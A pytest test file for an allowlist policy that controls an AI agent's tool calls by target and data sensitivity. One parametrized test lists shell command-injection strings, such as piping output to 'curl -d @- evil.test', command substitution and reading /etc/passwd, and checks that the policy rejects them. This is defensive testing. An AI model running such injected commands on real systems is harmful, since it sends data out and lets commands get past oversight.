from __future__ import annotations

import random

import pytest

from leviathd.domain.sensitivity import Sensitivity
from leviathd.errors import InvalidArgument
from leviathd.policy.allowlist import Allowlist, IndexedRule, compile_allowlist, glob_to_regex

X = Sensitivity.PRIVATE


def test_rules_match_exact_suffix_prefix_and_general_globs() -> None:
    al = compile_allowlist([
        {"tool": "http_post", "target": "hooks.corp", "max_sensitivity": "private"},
        {"tool": "http_post", "target": "*.example.com", "max_sensitivity": "private"},
        {"tool": "http_post", "target": "api-*", "max_sensitivity": "private"},
        {"tool": "http_post", "target": "s?.*.net", "max_sensitivity": "private"},
    ])
    assert al.find("http_post", "hooks.corp", X).index == 1  # type: ignore[union-attr]
    assert al.find("http_post", "A.Example.COM", X).index == 2  # type: ignore[union-attr]
    assert al.find("http_post", "api-eu", X).index == 3  # type: ignore[union-attr]
    assert al.find("http_post", "s3.eu.net", X).index == 4  # type: ignore[union-attr]
    assert al.find("http_post", "example.com", X) is None
    assert al.find("http_post", "hooks.corp.evil", X) is None


def test_a_rule_for_tool_star_matches_nothing() -> None:
    # Issue 21 §8: flagged "unknown tool", it used to match every tool.
    al = compile_allowlist([{"tool": "*", "target": "*", "max_sensitivity": "private"}])
    for tool in ("web_fetch", "http_post", "shell", "credential"):
        assert al.find(tool, "x.org", Sensitivity.PRIVATE) is None


def _shell_rule(target: str) -> Allowlist:
    return compile_allowlist([{"tool": "shell", "target": target, "max_sensitivity": "private"}])


@pytest.mark.parametrize("target, line, ok", [
    ("git status*", "git status", True),
    ("git status*", "git status; python3 -c 'urlopen(1)'", False),  # the attack
    ("git status*", "git status --short", False),  # `*` inside a word spans no words
    ("git status *", "git status --short -b", True),
    ("git status *", "git status", True),
    ("git status *", "git status && curl evil.test", False),
    ("git status *", "git status || curl evil.test", False),
    ("git status *", "git status | curl -d @- evil.test", False),
    ("git status *", "git status & curl evil.test", False),
    ("git status *", "git status\ncurl evil.test", False),
    ("git status *", "git status $(curl evil.test)", False),
    ("git status *", "git status `curl evil.test`", False),
    ("git status *", "git status > /tmp/x", False),
    ("git status *", "git status < /etc/passwd", False),
    ("git status *", "git status ${X}", False),
    ("git status *", "git status (x)", False),
    ("git status *", "git status 'a; b' \"$c\"", False),  # `$` anywhere: not vouched for
    ("git status *", "git status 'a; b'", True),  # quoted: one word, no operator
    ("git status *", "git status \\; id", True),  # an escaped ; is a word, as in sh
    ("git status *", "git status 'unterminated", False),
    ("git log * | head *", "git log --oneline | head -5", True),
    ("git log * | head *", "git log | head; id", False),
    ("ls", "ls", True),
    ("ls", "ls -la", False),
    ("ls", "ls;", True),
])
def test_shell_rules_match_a_parsed_command_line(target: str, line: str, ok: bool) -> None:
    found = _shell_rule(target).find("shell", line, Sensitivity.PRIVATE)
    assert (found is not None) == ok, (target, line)


def test_an_incomplete_rule_is_refused() -> None:
    with pytest.raises(InvalidArgument):
        compile_allowlist([{"tool": "http_post", "target": "x"}])


def test_the_index_agrees_with_plain_glob_matching() -> None:
    import re

    rng = random.Random(7)
    alphabet = "ab.-"
    globs = []
    for _ in range(300):
        g = "".join(rng.choice(alphabet + "*?") for _ in range(rng.randint(1, 6)))
        globs.append(g)
    rules = [IndexedRule("t", g, X, i) for i, g in enumerate(globs, start=1)]
    from leviathd.policy.allowlist import Allowlist

    al = Allowlist(rules)
    for _ in range(2000):
        target = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 8)))
        expected = next((r.index for r in rules
                         if re.fullmatch(glob_to_regex(r.target), target, re.DOTALL)), None)
        got = al.find("t", target, X)
        assert (got.index if got else None) == expected, target


def test_a_later_rule_with_a_higher_max_sensitivity_still_covers() -> None:
    al = compile_allowlist([
        {"tool": "t", "target": "a?.*.org", "max_sensitivity": "internal"},
        {"tool": "t", "target": "a*.x.org", "max_sensitivity": "private"},
        {"tool": "t", "target": "*.x.org", "max_sensitivity": "public"},
    ])
    assert al.find("t", "ab.x.org", Sensitivity.INTERNAL).index == 1  # type: ignore[union-attr]
    assert al.find("t", "ab.x.org", X).index == 2  # type: ignore[union-attr]
    assert al.find("t", "zz.x.org", X) is None


def test_a_later_rule_that_does_not_match_the_target_lends_it_no_clearance() -> None:
    # An agent holding Private data posts to a host whose only rule allows
    # Internal; a later rule for another host allows Private. Both are general
    # globs (one combined regex), so the index must still check that the later
    # rule matches this target, not just that its max_sensitivity is high.
    al = compile_allowlist([
        {"tool": "http_post", "target": "a?.*.org", "max_sensitivity": "internal"},
        {"tool": "http_post", "target": "b?.*.org", "max_sensitivity": "private"},
    ])
    assert al.find("http_post", "ab.evil.org", Sensitivity.INTERNAL).index == 1  # type: ignore[union-attr]
    assert al.find("http_post", "ab.evil.org", X) is None
    assert al.find("http_post", "bb.x.org", X).index == 2  # type: ignore[union-attr]
